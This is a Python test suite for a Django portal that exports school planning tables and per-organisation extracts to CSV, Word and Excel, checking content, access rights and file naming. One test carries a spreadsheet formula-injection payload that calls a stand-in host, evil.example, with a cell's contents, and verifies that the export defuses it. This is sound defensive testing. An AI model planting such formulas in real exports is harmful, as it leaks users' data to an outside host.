"""Rows of the table and extracts as files: exactly what is shown, and nobody else's words."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from datetime import date
from html import unescape
from urllib.parse import unquote

import docx
import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from pytest_django.fixtures import DjangoAssertNumQueries

from network.models import Organization, User
from plans.models import ApprovalBlock, Evidence, Plan
from plans.progress import MarkState
from tests.makers import (
    make_group,
    make_item,
    make_mark,
    make_member,
    make_monthly_item,
    make_organization,
    make_person,
    make_plan,
    make_project,
    make_section,
    make_user,
)

pytestmark = pytest.mark.django_db
ON = {"on": "2022-11-14"}
CANARY = "канарейка"
PAGE = "plans:plan_extract"


def export_url(plan: Plan, form: str = "csv") -> str:
    return reverse("plans:plan_export", args=[plan.pk, form])


def body(client: Client, url: str, **query: str) -> bytes:
    response = client.get(url, query)
    assert response.status_code == 200
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


def status(client: Client, url: str, **query: str) -> int:
    """The status of an answer whose file is read to its end, and so closed."""
    response = client.get(url, query)
    if response.streaming:
        list(response.streaming_content)  # type: ignore[attr-defined]
    return response.status_code


def lines(data: bytes) -> list[dict[str, str]]:
    """Rows of a CSV file by heading."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def titles(client: Client, plan: Plan, **query: str) -> list[str]:
    return [line["Мероприятия"] for line in lines(body(client, export_url(plan), **(ON | query)))]


@pytest.fixture
def coordinator(client: Client) -> User:
    user = make_user()
    client.force_login(user)
    return user


@pytest.fixture
def plan(coordinator: User) -> Plan:
    """Two sections, a late item, a done one with a proof, and a monthly one."""
    plan = make_plan(make_project(coordinator=coordinator))
    outer = make_section(plan, "1. Организация")
    inner = make_section(plan, "1.1. Документы", parent=outer)
    make_item(plan, "Семинар", section=outer, responsible=make_person("Ковалёва А.П."))
    done = make_item(plan, "Педсовет", section=inner, responsible="специалисты")
    proof = make_mark(done, participants=12)
    Evidence.objects.create(mark=proof, title="Протокол", number="7", dated_on=date(2022, 10, 21))
    make_mark(make_monthly_item(plan, "Консультации"), MarkState.MOVED, moved_to=date(2022, 12, 1))
    return plan


def test_rows_stand_under_printed_headings_with_states_and_marks(client: Client, plan: Plan) -> None:
    assert lines(body(client, export_url(plan), **ON)) == [
        {
            "№ п/п": "1",
            "Мероприятия": "Семинар",
            "Сроки": "Октябрь 2022",
            "Ответственный": "Ковалёва А.П.",
            "Отметка о выполнении": "",
            "Раздел": "1. Организация",
            "Состояние": "Просрочено на 14\N{NO-BREAK SPACE}дней",
            "Отметки на портале": "",
            "Подтверждения": "",
        },
        {
            "№ п/п": "2",
            "Мероприятия": "Педсовет",
            "Сроки": "Октябрь 2022",
            "Ответственный": "специалисты",
            "Отметка о выполнении": "",
            "Раздел": "1. Организация / 1.1. Документы",
            "Состояние": "Выполнено",
            "Отметки на портале": "выполнено 20.10.2022. Проведено, протокол подписан. Участников: 12",
            "Подтверждения": "Протокол № 7 от 21.10.2022",
        },
        {
            "№ п/п": "3",
            "Мероприятия": "Консультации",
            "Сроки": "ежемесячно",
            "Ответственный": "",
            "Отметка о выполнении": "",
            "Раздел": "",
            "Состояние": "Просрочено на 14\N{NO-BREAK SPACE}дней; 0 из 9",
            "Отметки на портале": "сентябрь 2022: перенесено на 01.12.2022. Ждём согласования с управлением",
            "Подтверждения": "",
        },
    ]


@pytest.mark.parametrize(
    ("query", "shown"),
    [
        ({"view": "late"}, ["Семинар", "Консультации"]),
        ({"q": "пед"}, ["Педсовет"]),
        ({"order": "urgency"}, ["Консультации", "Семинар", "Педсовет"]),
        ({"order": "responsible"}, ["Семинар", "Педсовет", "Консультации"]),
        ({"view": "late", "order": "urgency", "q": "конс"}, ["Консультации"]),
        ({"q": "абракадабра"}, []),
    ],
)
def test_exactly_the_shown_rows_in_their_order(
    client: Client, plan: Plan, query: dict[str, str], shown: list[str]
) -> None:
    page = client.get(reverse("plans:plan_detail", args=[plan.pk]), ON | query).context["groups"]
    assert [view.row.item.title for group in page for view in group.rows] == shown
    assert titles(client, plan, **query) == shown


def test_workbook_and_document_hold_the_same_rows(client: Client, plan: Plan) -> None:
    book = openpyxl.load_workbook(io.BytesIO(body(client, export_url(plan, "xlsx"), view="late", **ON)))
    assert [cell.value for cell in book["План"]["B"]] == ["Мероприятия", "Семинар", "Консультации"]
    document = docx.Document(io.BytesIO(body(client, export_url(plan, "docx"), view="late", **ON)))
    assert [row.cells[1].text for row in document.tables[0].rows] == [
        "Мероприятия",
        "1. Организация",
        "Семинар",
        "Консультации",
    ]
    assert [paragraph.text for paragraph in document.paragraphs if paragraph.text][-2:] == [
        "По состоянию на 14.11.2022, 2 пункта",
        "Отобрано: просрочено",
    ]


def test_document_carries_the_approval_block_as_it_was_written(client: Client, plan: Plan) -> None:
    ApprovalBlock.objects.create(plan=plan, label="УТВЕРЖДАЮ", text="УТВЕРЖДАЮ\nДиректор\n_______ А.Б.Зимина")
    document = docx.Document(io.BytesIO(body(client, export_url(plan, "docx"))))
    assert document.tables[0].rows[0].cells[1].text.strip() == "УТВЕРЖДАЮ\nДиректор\n_______ А.Б.Зимина"


def test_file_has_a_russian_name_and_is_only_saved(client: Client, plan: Plan) -> None:
    response = client.get(export_url(plan, "xlsx"), {"view": "late"})
    list(response.streaming_content)  # type: ignore[attr-defined]
    disposition, name = response["Content-Disposition"].split("; filename*=utf-8''")
    assert (disposition, unquote(name)) == ("attachment", "Календарный план, 2022-2023 — просрочено.xlsx")
    assert (response["X-Content-Type-Options"], response["Content-Security-Policy"]) == (
        "nosniff",
        "default-src 'none'; sandbox",
    )


def test_name_of_a_file_holds_nothing_that_systems_refuse(client: Client, plan: Plan) -> None:
    response = client.get(export_url(plan), {"q": 'а/б\\в:г*?"<д>|' + "ш" * 150})
    list(response.streaming_content)  # type: ignore[attr-defined]
    name = unquote(response["Content-Disposition"].partition("''")[2])
    assert (set('/\\:*?"<>|') & set(name), len(name) <= 124) == (set(), True)


def test_words_of_a_plan_run_nothing_in_a_spreadsheet(client: Client, coordinator: User) -> None:
    plan = make_plan(make_project(coordinator=coordinator))
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    make_mark(make_item(plan, evil), text="@СУММ(1)\x0bи ещё")
    [line] = lines(body(client, export_url(plan)))
    assert line["Мероприятия"] == f"'{evil}"
    data = body(client, export_url(plan, "xlsx"))
    assert openpyxl.load_workbook(io.BytesIO(data))["План"]["B2"].value == evil
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_hidden_column_stays_out_of_the_file(client: Client, plan: Plan) -> None:
    plan.layout[3]["is_hidden"] = True
    plan.save()
    assert "Ответственный" not in lines(body(client, export_url(plan)))[0]


@pytest.mark.parametrize("form", ["exe", "pdf", "XLSX", "html"])
def test_other_formats_are_not_there(client: Client, plan: Plan, form: str) -> None:
    assert client.get(export_url(plan, form)).status_code == 404


@pytest.mark.parametrize("rows", [1, 20])
def test_export_costs_the_same_for_any_length(
    client: Client, coordinator: User, rows: int, django_assert_num_queries: DjangoAssertNumQueries
) -> None:
    plan = make_plan(make_project(coordinator=coordinator))
    section, party = make_section(plan), make_group(plan.project.organization, organizations=[make_organization()])
    for _ in range(rows):
        make_mark(make_item(plan, section=section, responsible=[make_person(), party]), author=coordinator)
    client.get(reverse("network:account"))
    with django_assert_num_queries(12):
        body(client, export_url(plan, "xlsx"))


def test_page_links_to_the_files_of_what_it_shows(client: Client, plan: Plan) -> None:
    page = client.get(reverse("plans:plan_detail", args=[plan.pk]), ON | {"view": "late"}).content.decode()
    assert f'href="{export_url(plan, "docx")}?on=2022-11-14&amp;view=late"' in page


def test_page_that_shows_nothing_offers_no_files(client: Client, plan: Plan) -> None:
    page = client.get(reverse("plans:plan_detail", args=[plan.pk]), {"q": "абракадабра"}).content.decode()
    assert export_url(plan, "docx") not in page


@pytest.fixture
def shared_plan(coordinator: User) -> Plan:
    """An item that two organisations have marked, each in words of its own; `Центр А` and `Центр Б`."""
    a, b = make_organization("Центр А"), make_organization("Центр Б")
    plan = make_plan(make_project(coordinator=coordinator, director=make_user("d@school.example"), members=[a, b]))
    item = make_item(plan, "Общая встреча", responsible=[a, b])
    for organization in (a, b):
        mark = make_mark(item, organization=organization, text=f"{CANARY} {organization}")
        Evidence.objects.create(mark=mark, title=f"{CANARY} {organization}.pdf")
    make_item(plan, "Только Б", responsible=b, windows=[(date(2022, 12, 1), date(2022, 12, 31))])
    return plan


def everything(data: bytes) -> str:
    """All words of a file of any of the formats."""
    if not data.startswith(b"PK"):
        return data.decode()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return unescape("".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist()))


@pytest.mark.parametrize("form", ["xlsx", "csv", "docx"])
def test_member_takes_no_words_of_other_members_away(client: Client, shared_plan: Plan, form: str) -> None:
    member = make_member(Organization.objects.get(short_name="Центр А"))
    client.force_login(member)
    words = everything(body(client, export_url(shared_plan, form)))
    extract = everything(body(client, extract_url(shared_plan, form)))
    assert [f"{CANARY} Центр А" in text for text in (words, extract)] == [True, True]
    assert [f"{CANARY} Центр Б" in text for text in (words, extract)] == [False, False]


def extract_url(plan: Plan, form: str = "") -> str:
    return reverse("plans:plan_extract_file", args=[plan.pk, form]) if form else reverse(PAGE, args=[plan.pk])


def extracted(client: Client, plan: Plan, **query: str) -> list[tuple[str, list[str]]]:
    """Headings of an extract with the items under each."""
    groups = client.get(extract_url(plan), query).context["groups"]
    return [(", ".join(group.headings), [view.row.item.title for view in group.rows]) for group in groups]


def party_keys(client: Client, plan: Plan) -> list[str]:
    return [key for key, _ in client.get(extract_url(plan)).context["form"].fields["party"].choices]


def test_coordinator_chooses_any_party(client: Client, shared_plan: Plan) -> None:
    make_item(shared_plan, "Занятие", responsible=make_person("Белый К.К."))
    choices = client.get(extract_url(shared_plan)).context["form"].fields["party"].choices
    assert [label for _, label in choices] == ["Все", "Белый К.К.", "Центр А", "Центр Б"]


def test_extract_of_an_organization_has_its_items_and_only_its_marks(client: Client, shared_plan: Plan) -> None:
    a = party_keys(client, shared_plan)[1]
    assert extracted(client, shared_plan, party=a) == [("", ["Общая встреча"])]
    [line] = lines(body(client, extract_url(shared_plan, "csv"), party=a))
    assert (line["Отметки на портале"], line["Подтверждения"]) == (
        f"Центр А: выполнено 20.10.2022. {CANARY} Центр А",
        f"{CANARY} Центр А.pdf",
    )


def test_extract_of_a_person_has_items_of_her_groups_too(client: Client, coordinator: User) -> None:
    plan = make_plan(make_project(coordinator=coordinator))
    person = make_person("Белый К.К.")
    make_item(plan, "Своё", responsible=person)
    make_item(plan, "Через группу", responsible=make_group(plan.project.organization, people=[person]))
    make_item(plan, "Чужое", responsible=make_person("Осенняя П.С."))
    assert extracted(client, plan, party=f"person-{person.pk}") == [("", ["Своё", "Через группу"])]


def test_extract_of_a_month_tells_what_ends_and_what_goes_on(client: Client, coordinator: User) -> None:
    plan = make_plan(make_project(coordinator=coordinator))
    make_item(plan, "Октябрьский")
    make_item(plan, "Осенний", windows=[(date(2022, 9, 1), date(2022, 11, 30))])
    make_item(plan, "Декабрьский", windows=[(date(2022, 12, 1), date(2022, 12, 31))])
    make_item(plan, "Без даты", windows=[(None, None)])
    make_monthly_item(plan, "Консультации")
    moved = make_item(plan, "Перенесённый", windows=[(date(2022, 9, 1), date(2022, 9, 30))])
    make_mark(moved, MarkState.MOVED, moved_to=date(2022, 10, 5))
    assert extracted(client, plan, month="2022-10") == [
        ("Срок в октябре", ["Октябрьский", "Консультации", "Перенесённый"]),
        ("Срок позже, а работа идёт и в этом месяце", ["Осенний"]),
    ]
    assert extracted(client, plan, month="2022-12") == [("Срок в декабре", ["Декабрьский", "Консультации"])]


def test_extract_of_a_month_names_only_its_windows(client: Client, plan: Plan) -> None:
    found = lines(body(client, extract_url(plan, "csv"), month="2022-10"))
    assert [(line["Мероприятия"], line["Срок исполнения"]) for line in found] == [
        ("Семинар", "октябрь 2022"),
        ("Педсовет", "октябрь 2022"),
        ("Консультации", "октябрь 2022"),
    ]


def test_extract_is_named_after_whom_and_when(client: Client, plan: Plan) -> None:
    key = party_keys(client, plan)[1]
    response = client.get(extract_url(plan, "docx"), {"party": key, "month": "2022-10"})
    document = docx.Document(io.BytesIO(b"".join(response.streaming_content)))  # type: ignore[attr-defined]
    name = unquote(response["Content-Disposition"].partition("''")[2])
    assert name == "Выписка — Ковалёва А.П., октябрь 2022 г. — Календарный план, 2022-2023.docx"
    assert [paragraph.text for paragraph in document.paragraphs if paragraph.text][:3] == [
        "Выписка из плана",
        plan.title,
        "Ковалёва А.П., октябрь 2022 г.",
    ]


def test_member_gets_her_organization_at_once_and_no_other(client: Client, shared_plan: Plan) -> None:
    a, b = party_keys(client, shared_plan)[1:]
    client.force_login(make_member(Organization.objects.get(short_name="Центр А")))
    assert party_keys(client, shared_plan) == [a]
    assert extracted(client, shared_plan) == [("", ["Общая встреча"])]
    assert [status(client, url, party=b) for url in both(shared_plan)] == [422, 404]
    assert [status(client, url, month="2022-12") for url in both(shared_plan)] == [200, 200]
    assert extracted(client, shared_plan, month="2022-12") == []


def both(plan: Plan) -> Iterator[str]:
    yield extract_url(plan)
    yield extract_url(plan, "csv")


@pytest.mark.parametrize(
    "query",
    [{"party": "person-999999"}, {"party": "x"}, {"month": "2030-01"}, {"month": "вчера"}, {"party": "", "month": ""}],
)
def test_extract_of_what_is_not_there(client: Client, plan: Plan, query: dict[str, str]) -> None:
    statuses = [status(client, url, **query) for url in both(plan)]
    assert statuses == ([422, 404] if any(query.values()) else [200, 404])


def test_expert_without_items_is_told_so(client: Client, shared_plan: Plan) -> None:
    outsider = make_organization()
    shared_plan.project.participations.create(organization=outsider)
    client.force_login(make_member(outsider))
    response = client.get(extract_url(shared_plan))
    assert "нет пунктов, за которые отвечаете вы" in response.content.decode()


def test_who_takes_files_away(client: Client, shared_plan: Plan) -> None:
    people = {
        "director": User.objects.get(email="d@school.example"),
        "member": make_member(Organization.objects.get(short_name="Центр А")),
        "stranger": make_user(),
    }
    found = {}
    for name, user in people.items():
        client.force_login(user)
        found[name] = [status(client, url) for url in (export_url(shared_plan), *both(shared_plan))]
    assert found == {"director": [200, 200, 404], "member": [200, 200, 200], "stranger": [404, 404, 404]}


def test_library_of_word_is_not_loaded_with_the_pages() -> None:
    code = "import django; django.setup(); import portal.urls, sys; print('docx' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "False"
